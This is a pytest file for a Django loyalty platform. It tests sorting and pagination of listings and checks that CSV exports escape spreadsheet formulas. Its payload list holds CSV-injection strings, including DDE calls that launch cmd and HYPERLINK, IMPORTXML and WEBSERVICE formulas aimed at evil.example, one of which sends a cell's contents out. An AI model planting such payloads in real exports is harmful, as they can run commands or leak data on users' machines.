"""Lists by their address, and files that no spreadsheet takes for a program. (R51)"""

import csv
import io
import re
import unicodedata
from collections.abc import Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import pytest
from django.http import QueryDict
from django.test import RequestFactory
from django.utils import timezone
from django.utils.translation import gettext_lazy

from loyalty_saas.portal.shared import LongListing
from loyalty_saas.tables import Column, Listing, csv_response, safe_cell
from members.models import Identifier, Identity, Member
from programs.models import Location, Product
from tenants.access import Actor
from tenants.context import public_atomic
from tenants.models import Client, Provider
from tenants.services import audit
from tests.http import ClientBrowser
from tests.loyalty_saas.consoles import a_client, a_day, clients_without_a_schema_go, msp, staff, text_of
from tests.members.world import NOON, adjust, buy, line, live
from tests.people import browser, person

__all__ = ["clients_without_a_schema_go", "msp", "staff"]


@dataclass(frozen=True)
class Shop:
    """A row of a list."""

    name: str
    sales: int | None
    password: str = "secret"


COLUMNS = [
    Column("name", "Name", ("name",)),
    Column("sales", "Sales", ("sales",), figure=True),
    Column("password", "Password"),
]
ROWS = [Shop("Bea", None, "c"), Shop("Ana", 5, "b"), Shop("Cem", 9, "a")]


def listing(address: str = "", rows: Any = None, **given: Any) -> Listing:
    values = {"columns": COLUMNS, "default": "name", **given}
    return Listing(RequestFactory().get(f"/{address}"), list(ROWS) if rows is None else rows, **values)


def names(rows: Any) -> str:
    return " ".join(row.name for row in rows)


# ── lists ───────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("address", "order"),
    [
        ("", "Ana Bea Cem"),
        ("?sort=name", "Ana Bea Cem"),
        ("?sort=-name", "Cem Bea Ana"),
        ("?sort=sales", "Ana Cem Bea"),
        ("?sort=-sales", "Cem Ana Bea"),
    ],
)
def test_a_list_is_sorted_by_its_address_and_unknowns_come_last(address: str, order: str) -> None:
    assert names(listing(address).rows) == order


STRANGE = [
    "password", "-password", "identity__name", "-identity__name", "--name", "-", "name,-sales", "sales__lt", "NAME",
    "?", "pk", "__class__", "name;drop table", "%00", "%F0%9F%92%A9", " name",
]  # fmt: skip


@pytest.mark.parametrize("asked", STRANGE)
def test_what_is_no_column_that_sorts_is_ignored(asked: str) -> None:
    one = listing(f"?sort={asked}", default="-name")
    assert (one.sort, names(one.rows)) == ("-name", "Cem Bea Ana")


@pytest.mark.parametrize("asked", STRANGE)
def test_a_query_set_is_not_sorted_by_what_is_asked_either(asked: str) -> None:
    columns = [Column("name", "Name", ("name", "sku")), Column("sku", "Number", ("sku",)), Column("earning", "Earns")]
    answers = [
        str(
            kind(
                RequestFactory().get(f"/?sort={sort}"), Product.objects.all(), columns=columns, default="-sku"
            ).rows.query
        )
        for kind in (Listing, LongListing)
        for sort in ("-sku", asked if asked not in {"name", "sku"} else "x")
    ]
    assert answers[0] == answers[1]
    assert answers[2] == answers[3]


def test_a_query_set_is_sorted_by_all_names_of_a_column_turned_together(acme: Client) -> None:
    for sku, name in (("1", "Tea"), ("2", "Tea"), ("3", "Bun")):
        Product.objects.create(sku=sku, name=name)
    columns = [Column("name", "Name", ("name", "-sku"))]

    def order(sort: str) -> str:
        return " ".join(row.sku for row in listing(f"?sort={sort}", Product.objects.all(), columns=columns).rows)

    assert (order("name"), order("-name"), order("sku")) == ("3 2 1", "1 2 3", "3 2 1")


def test_unknown_figures_of_a_long_list_come_last_both_ways(acme: Client) -> None:
    for code, closed in (("a", None), ("b", NOON), ("c", timezone.now())):
        Location.objects.create(code=code, name=code, closed_at=closed)
    columns = [Column("closed", "Closed", ("closed_at",))]

    def order(sort: str) -> str:
        request = RequestFactory().get(f"/?sort={sort}")
        rows = LongListing(request, Location.objects.all(), columns=columns, default="closed").rows
        return "".join(row.code for row in rows)

    assert (order("closed"), order("-closed")) == ("bca", "cba")


@pytest.mark.parametrize(
    ("address", "states", "links"),
    [
        ("?sort=name", ["ascending", "", ""], ["-name", "-sales", ""]),
        ("?sort=-name", ["descending", "", ""], ["name", "-sales", ""]),
        ("?sort=-sales", ["", "descending", ""], ["name", "sales", ""]),
        ("?sort=sales", ["", "ascending", ""], ["name", "-sales", ""]),
        ("?sort=password", ["ascending", "", ""], ["-name", "-sales", ""]),
    ],
)
def test_heads_say_how_the_list_is_sorted_and_lead_to_the_other_way(
    address: str, states: list[str], links: list[str]
) -> None:
    heads = listing(address).heads
    assert [head.sorted for head in heads] == states
    assert [QueryDict(head.url.removeprefix("?")).get("sort", "") for head in heads] == links
    icons = {"ascending": "arrow-up", "descending": "arrow-down", "": "chevrons-up-down"}
    assert [head.icon for head in heads] == [icons[state] for state in states]


def test_one_column_at_most_is_sorted_on_the_page_for_screen_readers_too(acme: Client) -> None:
    Product.objects.create(sku="1", name="Tea")
    page = browser(acme, person(Actor.OWNER, client=acme)).get("/settings/products/?sort=-name").content.decode()
    assert re.findall(r'aria-sort="(\w+)"', page) == ["descending"]


@pytest.mark.parametrize(
    ("asked", "number"),
    [("", 1), ("2", 2), ("99", 3), ("0", 3), ("-4", 3), ("last", 1), ("1e9", 1), ("99999999999999999999", 3)],
)
def test_a_page_that_is_not_there_gives_the_nearest(asked: str, number: int) -> None:
    assert listing(f"?page={asked}", size=1).page.number == number


def test_an_empty_list_has_one_page() -> None:
    page = listing("?page=7", []).page
    assert (page.number, list(page)) == (1, [])


def test_filters_and_order_are_kept_and_the_page_is_not() -> None:
    one = listing("?q=a%26b&tag=x&tag=y&sort=-sales&page=3")
    assert one.kept.endswith("&")
    assert dict(QueryDict(one.kept[:-1]).lists()) == {"q": ["a&b"], "tag": ["x", "y"], "sort": ["-sales"]}
    for head in one.heads[:2]:
        asked = QueryDict(head.url.removeprefix("?"))
        assert (asked["q"], asked.getlist("tag"), "page" in asked) == ("a&b", ["x", "y"], False)
    assert (listing("?page=3").kept, listing().kept) == ("", "")


# ── files: cells ────────────────────────────────────────────────────────────────────────────────────────────────────

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\tplain", "\rplain", "\n=1+1", " =1+1", "   +1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1+1", "'=1+1", '"=1+1"', "''=1+1", "\"'=1+1", "' =1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u200c=1+1", "\u200d=1+1", "\u200e=1+1", "\u2060=1+1", "\u00ad=1+1", "\u202e=1+1", "\u00a0=1+1",
    "\u3000=1+1", "\u2003@SUM(1)", "\x0b=1+1", "\u2212\u0031+1", "\ufe66=1+1",
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=IMPORTXML("http://evil.example","//a")',
    "=WEBSERVICE(\"http://evil.example\")", '=DDE("cmd";"/C calc";"1")', "|cmd", " |cmd' /C calc'!A0", "=1+1\n=2+2",
    "--1", "-", "=", "+4915112345678", "-1-1", "-1,000,000", "=1+1;=2+2", "-5e3x", "+1",
]  # fmt: skip
INSIDE = ["Ana;=1+1", "Ana\n=1+1", "Ana; +1+1", "Ana\t=1+1", "Ana;'=1+1", "x;@SUM(1);-1-1", "Ana;\u200b=1+1"]
PLAIN = ["", "Ana", "a=b", "O'Neill", "a@b.example", "Ana - Bea", "1+1", "2026-01-01", "5 % off", "“=”", "Ümit", "1;2"]
BEGIN = set("=+-@|\t\r")


def is_formula(cell: str) -> bool:
    """
    Whether a spreadsheet might take the cell for a formula; written another way than what is tested.

    A mark in front makes it text; blanks, quotes and what has no width might be dropped before it is looked at.
    """
    if re.fullmatch(r"-?\d+([.,]\d+)?", cell) or cell.startswith("'"):
        return False
    bare = [c for c in cell if not (c.isspace() or c in "'\"" or unicodedata.category(c) in {"Cf", "Cc"})]
    first = unicodedata.normalize("NFKC", bare[0]).replace("\u2212", "-") if bare else ""
    return first in BEGIN - {""} or cell[:1] in {"\t", "\r"}


def formulas_in(rows: Sequence[Sequence[str]]) -> list[str]:
    """The cells that might run, also where cells are parted at semicolons, tabs and ends of lines."""
    return [
        cell
        for row in rows
        for cell in row
        if is_formula(cell) or any(map(is_formula, re.split(r"[;\t\r\n]", cell)[1:]))
    ]


def read(download: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text_of(download), newline=""), strict=True))


def test_r51_control_the_payloads_would_run_as_they_are() -> None:
    bare = [payload for payload in FORMULAS if not payload.startswith("'")]
    assert [payload for payload in bare if payload not in formulas_in([bare])] == []
    assert formulas_in([INSIDE]) == [payload for payload in INSIDE if payload != "Ana;'=1+1"]
    assert len(FORMULAS) >= 40
    assert formulas_in([PLAIN]) == []


@pytest.mark.parametrize("payload", FORMULAS, ids=ascii)
def test_r51_no_cell_is_a_formula_and_its_words_are_kept(payload: str) -> None:
    cell = str(safe_cell(payload))
    assert cell.startswith("'")
    assert formulas_in([[cell]]) == []
    assert cell.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("payload", INSIDE, ids=ascii)
def test_r51_nor_is_what_follows_a_separator(payload: str) -> None:
    """Where decimals have a comma spreadsheets part cells at semicolons."""
    cell = str(safe_cell(payload))
    assert formulas_in([[cell]]) == []
    assert cell.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("words", PLAIN)
def test_r51_other_words_stay_as_they_are(words: str) -> None:
    assert safe_cell(words) == words


@pytest.mark.parametrize("value", [0, -5, 12, -12.5, Decimal("-1280"), Decimal("12.50"), True, "-5", "-12.50", "-3,5"])
def test_r51_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) == value


def test_r51_what_is_unknown_is_empty_and_what_becomes_text_later_is_looked_at_too() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(gettext_lazy("=1+1")) == "'=1+1"
    assert safe_cell(NOON.date()) == NOON.date().isoformat()


def test_r51_a_file_is_read_back_cell_by_cell() -> None:
    rows = read(
        csv_response(name="x", head=["=head", "Amount"], lines=[[payload, -5] for payload in FORMULAS + INSIDE])
    )
    assert rows[0] == ["'=head", "Amount"]
    assert [row[1] for row in rows[1:]] == ["-5"] * len(FORMULAS + INSIDE)
    assert formulas_in(rows) == []


def test_an_export_has_all_pages_in_order_and_the_columns_that_have_values() -> None:
    columns = [Column("name", "Name", ("name",), value=lambda row: row.name), Column("password", "Password")]
    answer = listing("?sort=-name&page=2", columns=columns, size=1).export(name="shops")
    assert answer["Content-Disposition"] == 'attachment; filename="shops.csv"'
    assert read(answer) == [["Name"], ["Cem"], ["Bea"], ["Ana"]]


# ── files: through the door ─────────────────────────────────────────────────────────────────────────────────────────

# What a database and a form would let in.
HOSTILE = [payload for payload in FORMULAS + INSIDE if payload.strip()]


@pytest.fixture
def hostile(acme: Client) -> Client:
    """A shop in which every text is a formula."""
    live(units=[{"code": "points", "name": "=Points", "kind": "points"}])
    for number, payload in enumerate(HOSTILE):
        member = Member.objects.create(number=f"={number}")
        Identity.objects.create(member=member, name=payload, language=payload[:10])
        for kind in ("phone", "email", "card"):
            Identifier.objects.create(member=member, kind=kind, value=f"{payload}{' ' * number}")
        place = Location.objects.create(code=f"{payload}{' ' * number}"[:50], name=payload)
        sold = line(1234, sku=payload[:64], category=payload[:64])
        buy(member, receipt=f"{payload}{number}"[:64], lines=[sold], channel=payload[:20], location_id=place.pk)
        adjust(member, 7, reason=payload)
        adjust(member, -5, reason=payload)
    return acme


def owner(client: Client) -> ClientBrowser:
    return browser(client, person(Actor.OWNER, client=client), fresh=True)


def test_r51_the_owners_files_hold_no_formula(hostile: Client) -> None:
    page = owner(hostile)
    addresses = ["/members/export/", *(f"/settings/data/{what}/" for what in ("members", "purchases", "points"))]
    files = {address: read(page.post(address)) for address in addresses}
    assert {address: formulas_in(rows) for address, rows in files.items()} == {address: [] for address in addresses}

    assert {len(rows) - 1 for rows in files.values()} == {len(HOSTILE), 2 * len(HOSTILE)}
    names_ = [row[1] for row in files["/members/export/"][1:]]
    assert sorted(one.replace("'", "") for one in names_) == sorted(one.replace("'", "") for one in HOSTILE)
    head, *points = files["/settings/data/points/"]
    assert {row[head.index("Amount")] for row in points} == {"7", "-5"}
    head, *sales = files["/settings/data/purchases/"]
    assert {row[head.index("Amount")] for row in sales} == {"12.34"}


def test_r51_the_consoles_file_of_clients_holds_no_formula(msp: Provider, staff: ClientBrowser) -> None:
    Provider.objects.filter(pk=msp.pk).update(name="=Beacon")
    for payload in HOSTILE:
        a_day(a_client(msp, name=payload), revenue=5000)
    for address in ("/?format=csv", "/clients/?format=csv"):
        head, *rows = read(staff.get(address))
        assert formulas_in([head, *rows]) == []
        assert len(rows) == len(HOSTILE)
        assert {row[head.index("Provider")] for row in rows} == {"'=Beacon"}
        assert {row[head.index("Revenue")] for row in rows} == {"50.00"}


def test_r51_one_clients_days_hold_numbers_that_may_be_below_zero(msp: Provider, staff: ClientBrowser) -> None:
    client = a_client(msp, name="=Petal")
    a_day(client, revenue=-1250, repeat_revenue=0)
    head, row = read(staff.get(f"/clients/{client.pk}/?format=csv"))
    assert row[head.index("Revenue")] == "-12.50"
    assert formulas_in([head, row]) == []


def test_r51_the_consoles_file_of_events_holds_no_formula(acme: Client, msp: Provider, staff: ClientBrowser) -> None:
    Client.objects.filter(pk=acme.pk).update(name="=Petal", provider=msp)
    for payload in HOSTILE:
        with public_atomic():
            audit.record(action="client.suspended", actor=payload, subject=payload, client=acme,
                         detail={"reason": payload, "name": payload}, at=timezone.now())  # fmt: skip
    head, *rows = read(staff.get("/activity/?format=csv"))
    assert len(rows) == len(HOSTILE)
    assert formulas_in([head, *rows]) == []
    assert {row[head.index("Client")] for row in rows} == {"'=Petal"}
